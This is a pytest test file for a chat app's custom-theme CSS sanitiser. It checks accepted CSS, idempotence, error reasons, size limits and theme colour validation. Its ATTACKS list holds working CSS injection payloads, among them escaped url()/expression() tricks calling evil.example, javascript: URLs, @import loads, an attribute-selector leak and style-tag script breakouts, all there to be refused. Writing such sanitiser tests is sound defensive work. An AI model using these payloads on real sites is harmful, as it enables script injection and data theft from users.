"""The community theme and its custom CSS sanitiser (services/community_theme.py): what is
accepted and how it is re-serialised, and attacks that must never get through."""

from __future__ import annotations

import pytest
import tinycss2  # type: ignore[import-untyped]  # tinycss2 ships no type hints

from chatalot.errors import Invalid
from chatalot.services.community_theme import (
    CssRejected,
    sanitize_css,
    validate_theme,
)

# -- accepted CSS ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("css", "expected"),
    [
        ("", ""),
        ("color: red", "color: red"),
        ("color: red; --gap: 4px;", "color: red; --gap: 4px"),
        ("  COLOR :  #FFF  ;;  ", "COLOR: #FFF"),
        ("color red; color: blue", "color: blue"),
        ("color: red !important", "color: red !important"),
        ("font-family: 'Comic Sans', serif", 'font-family: "Comic Sans", serif'),
        (
            "background: linear-gradient(to right, rgb(1 2 3 / 50%), #fff)",
            "background: linear-gradient(to right, rgb(1 2 3 / 50%), #fff)",
        ),
        ("padding: calc((1px + 2px) * 2)", "padding: calc((1px + 2px) * 2)"),
        ("background: url(/api/avatars/a.png)", "background: url(/api/avatars/a.png)"),
        ('background: url("/api/emojis/x")', 'background: url("/api/emojis/x")'),
        ("background: url( /api/x.png )x", "background: url(/api/x.png)x"),
        ("background: url()", "background: url()"),
        ("color: var(--accent)", "color: var(--accent)"),
        ("color: /* note */ red", "color: red"),
        (".a { color: red }", ".a { color: red }"),
        (".a{color:red;--x:1}", ".a { color: red; --x: 1 }"),
        (".a {}", ".a {}"),
        (".a { color: red", ".a { color: red }"),
        ("--x: { color: red }", "--x: { color: red }"),
        (
            '.b:hover > .c, [data-x="y"] { border: 1px solid #fff }',
            '.b:hover > .c, [data-x="y"] { border: 1px solid #fff }',
        ),
        (".a:not(.b) { opacity: 0.5 }", ".a:not(.b) { opacity: 0.5 }"),
        ("#main .x ~ .y + .z { margin: 0 }", "#main .x ~ .y + .z { margin: 0 }"),
        (".a { color: red }\n.b { color: blue }", ".a { color: red }\n.b { color: blue }"),
    ],
)
def test_accepted_css(css: str, expected: str) -> None:
    """Safe CSS is kept, re-serialised from its tokens (comments and junk dropped)."""
    assert sanitize_css(css) == expected


@pytest.mark.parametrize(
    "css",
    [
        "color: red; --gap: 4px",
        ".a { color: red } .b:hover { background: url(/api/x.png) }",
        "a:nth-child(2n+1) { color: red }",
        ".a { --x: 1 2 3; font-family: 'A B' }",
    ],
)
def test_sanitising_is_idempotent(css: str) -> None:
    """Sanitised output passes the sanitiser again unchanged."""
    once = sanitize_css(css)
    assert sanitize_css(once) == once


# -- attacks ---------------------------------------------------------------------------------

ATTACKS = [
    # escapes and comments spelling url( / expression( past a text check
    "background: \\75 rl(https://evil.example/x)",
    "background: u\\72l(https://evil.example/x)",
    "background: ur/**/l(https://evil.example/x)",
    "background: URL(https://evil.example/x)",
    "background: Url( 'https://evil.example/x' )",
    "background: url(//evil.example/x)",
    "background: url(/api/../../evil)",
    "background: url(/api/%2e%2e/evil)",
    "background: url(/api//evil.example/x)",
    "background: url(javascript:alert(1))",
    "background: url(data:image/png;base64,AAAA)",
    "background: url(/apix/../x)",
    "background: image-set('https://evil.example/x' 1x)",
    "background: -webkit-image-set(url(https://evil.example/x) 1x)",
    "background: cross-fade(url(https://e/x), red)",
    "background: element(#x)",
    "width: expression(alert(1))",
    "color: eXpReSsIoN(alert(1))",
    "color: expr/**/ession(alert(1))",
    "color: \\65 xpression(alert(1))",
    # at-rules
    "@import url(/api/x.css)",
    "@IMPORT 'https://evil.example/x.css';",
    "@im\\70 ort 'x.css';",
    "@font-face { font-family: x; src: url(https://evil.example/f) }",
    "@keyframes k { from { color: red } }",
    "@media screen { .a { color: red } }",
    "@namespace url(http://evil)",
    "@charset 'utf-8'; .a { color: red }",
    "@supports (color: red) { .a { color: red } }",
    # properties outside the allow-list and the original's blocked patterns
    "behavior: url(x.htc)",
    "-moz-binding: url(https://evil.example/xbl)",
    "position: fixed",
    "POSITION:ABSOLUTE",
    "position :fixed",
    "z-index: 99999",
    "cursor: url(/api/x.png), auto",
    "pointer-events: none",
    "content: 'fake text'",
    "display: none",
    "background-image: url(https://evil.example/x)",
    "list-style: url(https://evil.example/x)",
    "color: red; javascript: alert(1)",
    "--x: javascript:alert(1)",
    "col\\6fr: red",
    # structure
    ".a { .b { color: red } }",
    ".a { @media x { color: red } }",
    "a[href^=http] { background: url(https://evil.example/?leak) }",
    "</style><script>alert(1)</script>",
    "color: red</style><script>alert(1)</script>",
    ".a { color: red } }",
    "url(/api/x) { color: red }",
    ".a; .b { color: red }",
    "'str' { color: red }",
    ".a { color: red; } @import 'x';",
    "color: rgb(" * 40 + ")" * 40,
    "color: " + "(" * 3000,
    "color: red\x00",
    "color: red\u202e",
    "color: 'unterminated",
    "background: url(/api/x",
    "@\\69mport 'x'",
]


@pytest.mark.parametrize("css", ATTACKS)
def test_attacks_are_refused(css: str) -> None:
    """Every attack is refused with a reason (never an unexpected exception)."""
    with pytest.raises(CssRejected):
        sanitize_css(css)


def test_at_least_25_attacks() -> None:
    """The attack list stays large."""
    assert len(ATTACKS) >= 25


def _all_tokens(nodes: list[object]) -> list[object]:
    out: list[object] = []
    for node in nodes:
        out.append(node)
        for attribute in ("content", "arguments", "prelude", "value"):
            child = getattr(node, attribute, None)
            if isinstance(child, list):
                out.extend(_all_tokens(child))
    return out


@pytest.mark.parametrize(
    "css",
    [
        ".a { background: url(/api/avatars/x.png) }",
        "background: url('/api/emojis/x'); color: red",
        ".a:hover, .b > .c { color: var(--x); --x: #fff }",
    ],
)
def test_output_has_no_foreign_urls_or_at_rules(css: str) -> None:
    """Whatever comes out, parsed again, holds only /api/ URLs and no at-rules."""
    out = sanitize_css(css)
    for token in _all_tokens(tinycss2.parse_component_value_list(out)):
        assert getattr(token, "type", "") not in ("at-keyword", "error")
        if getattr(token, "type", "") == "url":
            assert token.value.startswith("/api/")  # type: ignore[attr-defined]
    assert "\\" not in out
    assert "<" not in out


@pytest.mark.parametrize(
    ("css", "reason"),
    [
        ("@import 'x'", "CSS contains blocked pattern: @import"),
        ("z-index: 3", "CSS contains blocked pattern: z-index"),
        ("position: fixed", "CSS contains blocked pattern: position: fixed"),
        ("background: url(https://x)", "url() is only allowed for /api/ paths"),
        ("display: none", "CSS property not allowed: display"),
        ("color: attr(x)", "CSS function not allowed: attr()"),
        ("@media x { }", "CSS at-rule not allowed: @media"),
        ("color: \\72 ed", "CSS escapes (backslashes) are not allowed"),
        (".a { .b { color: red } }", "nested CSS rules are not allowed"),
        ("x" * 4097, "CSS too large (max 4096 bytes)"),
    ],
)
def test_reasons(css: str, reason: str) -> None:
    """Each refusal says why (the original's texts where it had one)."""
    with pytest.raises(CssRejected) as err:
        sanitize_css(css)
    assert err.value.reason == reason


def test_size_limit_is_bytes() -> None:
    """4096 bytes of CSS pass, one more byte does not (UTF-8 bytes, not characters)."""
    ok = '--x: "' + "a" * (4096 - 8) + '"'
    assert len(ok.encode()) == 4095
    assert sanitize_css(ok) == ok
    with pytest.raises(CssRejected):
        sanitize_css('--x: "' + "é" * 2046 + '"')


# -- the theme object ------------------------------------------------------------------------


def test_valid_theme_keeps_keys_and_sanitises_css() -> None:
    """Colours are kept, the CSS is replaced by its sanitised form."""
    theme = validate_theme(
        {
            "accent": "#ff0000",
            "bgPrimary": "#abc",
            "textPrimary": "#11223344",
            "customCss": "color:red",
        }
    )
    assert theme == {
        "accent": "#ff0000",
        "bgPrimary": "#abc",
        "textPrimary": "#11223344",
        "customCss": "color: red",
    }
    assert validate_theme({}) == {}


@pytest.mark.parametrize(
    ("theme", "message"),
    [
        ([], "community_theme must be a JSON object"),
        ("x", "community_theme must be a JSON object"),
        (5, "community_theme must be a JSON object"),
        ({"accent": "#" + "a" * 9000}, "community_theme too large (max 8KB)"),
        ({"font": "#fff"}, "unknown theme key: font"),
        ({"accent": 5}, "accent must be a string"),
        ({"accent": "red"}, "accent must be a hex color (e.g. #ff0000)"),
        ({"accent": "#ff00"}, None),
        ({"accent": "#fffff"}, "accent must be a hex color (e.g. #ff0000)"),
        ({"accent": "#ffffff\n"}, "accent must be a hex color (e.g. #ff0000)"),
        ({"accentHover": "#12345678a"}, "accentHover must be a hex color (e.g. #ff0000)"),
        ({"customCss": 5}, "customCss must be a string"),
        ({"customCss": "@import 'x'"}, "customCss: CSS contains blocked pattern: @import"),
        ({"customCss": "display: none"}, "customCss: CSS property not allowed: display"),
    ],
)
def test_theme_errors(theme: object, message: str | None) -> None:
    """Each problem has the original's message."""
    if message is None:
        validate_theme(theme)
        return
    with pytest.raises(Invalid) as err:
        validate_theme(theme)
    assert err.value.message == message
